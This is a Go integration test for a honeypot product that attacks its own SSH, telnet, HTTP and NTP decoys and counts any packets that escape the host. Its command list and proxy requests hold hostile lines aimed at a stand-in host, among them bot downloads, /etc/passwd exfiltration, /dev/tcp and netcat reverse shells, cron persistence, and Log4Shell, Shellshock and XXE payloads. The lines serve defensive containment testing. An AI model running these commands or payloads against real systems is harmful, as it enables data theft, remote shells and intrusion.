package defence

import (
	"context"
	"encoding/json"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
	"golang.org/x/sys/unix"

	"honeyguide/test/rig"
)

// elsewhere is who attackers want to reach through us. Everything outside leads
// there, and it answers, so nothing stays at home for want of a way.
const (
	elsewhereV4, elsewhereV6 = "203.0.113.9", "2001:db8:99::9"
	victimV4                 = "198.51.100.77" // in whose name packets are forged
)

// sink counts what leaves the host and is no answer: every packet of a flow that
// the host itself began. Neighbour discovery and group membership are how a host
// is on a network at all, and carry nothing.
const sink = `table inet sink {
	counter left { }
	counter asked { }
	counter answered { }
	chain out {
		type filter hook output priority filter; policy accept;
		oifname "lo" accept
		udp sport 123 counter name answered
		ct state established,related accept
		icmpv6 type { nd-neighbor-solicit, nd-neighbor-advert, nd-router-solicit, mld-listener-report, mld2-listener-report } accept
		ip protocol igmp accept
		counter name left accept
	}
	chain in {
		type filter hook input priority filter; policy accept;
		udp dport 123 counter name asked
	}
}
`

// counted reads a counter of the sink.
func (g *ground) counted(name string) (packets, bytes int) {
	g.Helper()
	var list struct {
		Nftables []struct {
			Counter *struct{ Packets, Bytes int }
		}
	}
	if err := json.Unmarshal([]byte(g.in(g.host, "nft", "-j", "list", "counter", "inet", "sink", name)), &list); err != nil {
		g.Fatal(err)
	}
	for _, x := range list.Nftables {
		if x.Counter != nil {
			return x.Counter.Packets, x.Counter.Bytes
		}
	}
	g.Fatalf("no counter %s", name)
	return 0, 0
}

// open gives the outside every address there is, and the host a way to them.
func (g *ground) open() {
	g.Helper()
	g.in(g.outside, "ip", "route", "add", "local", "203.0.113.0/24", "dev", "lo")
	g.in(g.outside, "ip", "route", "add", "local", "198.51.100.0/24", "dev", "lo")
	g.in(g.outside, "ip", "-6", "route", "add", "local", "2001:db8:99::/64", "dev", "lo")
	g.in(g.host, "ip", "route", "add", "default", "via", adminV4)
	g.in(g.host, "ip", "-6", "route", "add", "default", "via", adminV6)
	g.in(g.host, "sh", "-c", "printf '%s' '"+sink+"' | nft -f -")
}

// asked is what an attacker types at a shell to reach somebody else.
var asked = []string{
	"wget http://203.0.113.9/x.sh -O /tmp/x.sh", "wget -q -T 3 http://[2001:db8:99::9]/x", "curl http://203.0.113.9/x", "curl -x socks5h://203.0.113.9:1080 http://198.51.100.77/",
	"curl -F f=@/etc/passwd http://203.0.113.9/up", "curl --interface eth0 https://203.0.113.9/", "ftp -n 203.0.113.9", "ftpget 203.0.113.9 a b", "tftp -g -r bot 203.0.113.9", "tftp 203.0.113.9 -c get bot",
	"busybox wget http://203.0.113.9/bot", "busybox tftp -g -r bot 203.0.113.9", "nc -w 2 203.0.113.9 4444 -e /bin/sh", "nc -u 203.0.113.9 53", "telnet 203.0.113.9 25", "ssh -o StrictHostKeyChecking=no root@203.0.113.9 id", "scp /etc/passwd root@203.0.113.9:/tmp", "sftp root@203.0.113.9", "rsync -a /etc root@203.0.113.9:/tmp",
	"ping -c 2 203.0.113.9", "ping6 -c 1 2001:db8:99::9", "traceroute 203.0.113.9", "dig @203.0.113.9 example.org any", "nslookup example.org 203.0.113.9", "host example.org", "getent hosts example.org", "ntpdate 203.0.113.9", "whois example.org",
	"exec 3<>/dev/tcp/203.0.113.9/80; echo hi >&3", "echo hi > /dev/udp/203.0.113.9/53", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "socat TCP:203.0.113.9:80 -",
	"python3 -c 'import socket;socket.create_connection((\"203.0.113.9\",80))'", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(80,inet_aton(\"203.0.113.9\")))'", "php -r 'fsockopen(\"203.0.113.9\",80);'",
	"apt-get update", "apt install -y nmap", "pip install x", "git clone http://203.0.113.9/x.git", "nmap -sS 203.0.113.9", "hping3 --flood 203.0.113.9", "mail -s x a@203.0.113.9 < /etc/passwd", "sendmail a@b < /etc/passwd", "arping 203.0.113.9", "iperf -c 203.0.113.9",
	"(wget http://203.0.113.9/bg &) ; nohup curl http://203.0.113.9/nohup &", "echo '* * * * * wget http://203.0.113.9/cron' | crontab -",
}

// typists share the lines between them.
const typists = 12

// typeAll asks the decoy's shell for everything.
func (g *ground) typeAll() (n int) {
	g.Helper()
	var group sync.WaitGroup
	defer group.Wait()
	for i := range typists {
		client := g.login()
		group.Go(func() {
			defer client.Close()
			for k := i; k < len(asked); k += typists {
				s, err := client.NewSession()
				if err != nil {
					g.Errorf("%s: %v", asked[k], err)
					return
				}
				done := time.AfterFunc(5*time.Second, func() { _ = s.Close() })
				_, _ = s.CombinedOutput(asked[k]) // most of it ends badly, as it should
				done.Stop()
				_ = s.Close()
			}
		})
	}
	return len(asked)
}

// login logs in at the decoy from outside.
func (g *ground) login() *ssh.Client {
	g.Helper()
	var conn net.Conn
	g.inside(g.outside, func() {
		var err error
		if conn, err = net.DialTimeout("tcp", net.JoinHostPort(hostV4, "22"), 5*time.Second); err != nil {
			g.Fatal(err)
		}
	})
	c, chans, reqs, err := ssh.NewClientConn(conn, "host", &ssh.ClientConfig{
		User: "root", HostKeyCallback: ssh.InsecureIgnoreHostKey(), Auth: []ssh.AuthMethod{ssh.Password("root")},
	})
	if err != nil {
		g.Fatal(err)
	}
	return ssh.NewClient(c, chans, reqs)
}

// dialAll asks for connections as the client of a library can, beyond what the
// programs below do.
func (g *ground) dialAll() (n int) {
	g.Helper()
	client := g.login()
	defer client.Close()
	for _, to := range []string{"203.0.113.9:80", "[2001:db8:99::9]:443", "198.51.100.77:25", "127.0.0.1:22", "192.0.2.10:80"} {
		if c, err := client.Dial("tcp", to); err == nil {
			_, _ = io.WriteString(c, "GET / HTTP/1.0\r\n\r\n")
			_ = c.Close()
		}
		n++
	}
	return n
}

// forward lets OpenSSH ask for a forward and uses it.
func (g *ground) forward(use []string, flags ...string) {
	g.Helper()
	ask := filepath.Join(g.TempDir(), "ask")
	if err := os.WriteFile(ask, []byte("#!/bin/sh\necho root\n"), 0o700); err != nil {
		g.Error(err)
		return
	}
	args := append([]string{
		"netns", "exec", g.outside, "setsid", "-w", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
		"-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=10", "-l", "root",
	}, flags...)
	ctx, cancel := context.WithTimeout(g.Context(), 12*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "ip", append(args, hostV4)...)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "DISPLAY=:0", "HOME="+g.TempDir())
	cmd.SysProcAttr = &unix.SysProcAttr{Setpgid: true, Pdeathsig: unix.SIGKILL}
	cmd.Cancel = func() error { return unix.Kill(-cmd.Process.Pid, unix.SIGKILL) }
	in, err := cmd.StdinPipe()
	if err != nil {
		g.Error(err)
		return
	}
	if err := cmd.Start(); err != nil {
		g.Error(err)
		return
	}
	if use == nil {
		_, _ = io.WriteString(in, "HELO x\r\nMAIL FROM:<a@b>\r\n")
	} else {
		time.Sleep(1500 * time.Millisecond) // until it listens
		_ = exec.Command("ip", append([]string{"netns", "exec", g.outside}, use...)...).Run()
	}
	cancel()
	_ = in.Close()
	_ = cmd.Wait()
}

// proxy asks the web decoy to fetch for us, in the ways there are.
func (g *ground) proxy() (n int) {
	g.Helper()
	var group sync.WaitGroup
	defer group.Wait()
	for _, text := range []string{
		"CONNECT 203.0.113.9:443 HTTP/1.1\r\nHost: 203.0.113.9:443\r\n\r\n\x16\x03\x01\x00\x00",
		"CONNECT [2001:db8:99::9]:25 HTTP/1.1\r\nHost: x\r\n\r\nHELO x\r\n",
		"GET http://203.0.113.9/ HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n",
		"GET /?url=http://203.0.113.9/&u=gopher://203.0.113.9:25/_HELO HTTP/1.1\r\nHost: 203.0.113.9\r\nX-Forwarded-For: ${jndi:ldap://203.0.113.9/a}\r\nUser-Agent: () { :;}; curl 203.0.113.9\r\n\r\n",
		"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nContent-Length: 89\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"http://203.0.113.9/x\">]><a>&b;</a>  ",
		"\x05\x01\x00\x05\x01\x00\x01\xcb\x00\x71\x09\x00\x50", "\x04\x01\x00\x50\xcb\x00\x71\x09\x00",
		"EHLO x\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@203.0.113.9>\r\nDATA\r\n.\r\n", "PORT 203,0,113,9,0,80\r\nLIST\r\n",
	} {
		for _, port := range []string{"80", "23", "22"} {
			var c net.Conn
			g.inside(g.outside, func() {
				var err error
				if c, err = net.DialTimeout("tcp", net.JoinHostPort(hostV4, port), 5*time.Second); err != nil {
					g.Fatal(err)
				}
			})
			group.Go(func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(2 * time.Second))
				_, _ = io.WriteString(c, text)
				_, _ = io.Copy(io.Discard, io.LimitReader(c, 1<<16))
			})
			n++
		}
	}
	return n
}

// reflect sends datagrams in the name of a victim.
func (g *ground) reflect() (n int) {
	g.Helper()
	asks := [][]byte{
		append([]byte{0x23}, make([]byte, 47)...), append([]byte{0x23}, make([]byte, 7)...),
		append([]byte{0x17, 0x00, 0x03, 0x2a}, make([]byte, 4)...), append([]byte{0x16, 0x02, 0, 1}, make([]byte, 8)...),
		append([]byte{0x1b}, make([]byte, 500)...),
		{0},
	}
	g.inside(g.outside, func() {
		for i := range 20 {
			from := netip.AddrPortFrom(netip.MustParseAddr(victimV4), uint16(20000+i))
			c, err := net.DialUDP("udp", net.UDPAddrFromAddrPort(from), net.UDPAddrFromAddrPort(netip.MustParseAddrPort(hostV4+":123")))
			if err != nil {
				g.Fatal(err)
			}
			for _, a := range asks {
				if _, err := c.Write(a); err != nil {
					g.Logf("datagram: %v", err)
				}
				n++
			}
			time.Sleep(20 * time.Millisecond)
			_ = c.Close()
		}
	})
	return n
}

// TestContainment attacks every decoy in the ways that want it to reach somebody
// else, while a counter in the kernel counts the packets that leave the host and
// answer nobody. Everything outside answers: what does not leave was not sent.
func TestContainment(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole product in namespaces; -short leaves it out")
	}
	rig.Need(t, "ssh")
	rig.Need(t, "curl")
	g := newGround(t)
	g.open()
	// The counter counts: one packet of our own, of each version of IP.
	g.inside(g.host, func() {
		for _, to := range []string{elsewhereV4, elsewhereV6} {
			if c, err := net.Dial("udp", net.JoinHostPort(to, "9")); err == nil {
				_, _ = c.Write([]byte("control"))
				_ = c.Close()
			}
		}
	})
	if n, _ := g.counted("left"); n != 2 {
		t.Fatalf("the counter saw %d of 2 packets: what it does not see proves nothing", n)
	}
	g.in(g.host, "nft", "reset", "counter", "inet", "sink", "left")
	var core *rig.Core
	g.inside(g.host, func() {
		core = rig.Start(g, g.TempDir(), "sensors.ssh.listen=:22", "sensors.ssh.accept=always", "sensors.ssh.delay=0s", "sensors.telnet.listen=:23", "sensors.telnet.accept=always", "sensors.telnet.delay=0s",
			"sensors.http.listen=:80", "sensors.ntp.enabled=true", "sensors.ntp.listen=:123")
	})
	n := g.typeAll() + g.dialAll() + g.proxy() + g.reflect()
	var group sync.WaitGroup
	for _, f := range []struct{ use, flags []string }{
		{[]string{"curl", "-s", "-m", "3", "http://127.0.0.1:18080/"}, []string{"-N", "-L", "18080:203.0.113.9:80"}},
		{[]string{"curl", "-s", "-m", "3", "-x", "socks5h://127.0.0.1:18081", "http://203.0.113.9/"}, []string{"-N", "-D", "18081"}},
		{[]string{"curl", "-s", "-m", "3", "http://" + hostV4 + ":18082/"}, []string{"-N", "-R", "18082:203.0.113.9:80"}},
		{[]string{"curl", "-s", "-m", "3", "-x", "socks5h://" + hostV4 + ":18083", "http://203.0.113.9/"}, []string{"-N", "-R", "18083"}},
		{nil, []string{"-W", "203.0.113.9:25"}},
		{[]string{"true"}, []string{"-N", "-w", "any"}},
	} {
		group.Go(func() { g.forward(f.use, f.flags...) })
		n++
	}
	group.Wait()
	left, _ := g.counted("left")
	packets, asked := g.counted("asked")
	answers, answered := g.counted("answered")
	if packets < 20 || answers == 0 {
		t.Errorf("%d datagrams came and %d were answered: the decoy was not asked", packets, answers)
	}
	t.Logf("TRUST name=containment-packets-out figure=%d unit=packets target=<=0 of=%d", left, n)
	t.Logf("TRUST name=udp-amplification figure=%.3f unit=bytes/byte target=<=1 of=%d", float64(answered)/float64(max(asked, 1)), packets)
	if left > 0 {
		t.Errorf("%d packets left the host", left)
	}
	if answered > asked {
		t.Errorf("%d bytes were answered to %d", answered, asked)
	}
	list, err := rig.List[json.RawMessage](core, "/api/v1/sessions")
	if err != nil || len(list) < 10 {
		t.Errorf("%d sessions are known, %v: the attacks were not seen", len(list), err)
	}
	t.Logf("%d attempts, %d sessions, %d datagrams came, %d were answered", n, len(list), packets, answers)
}
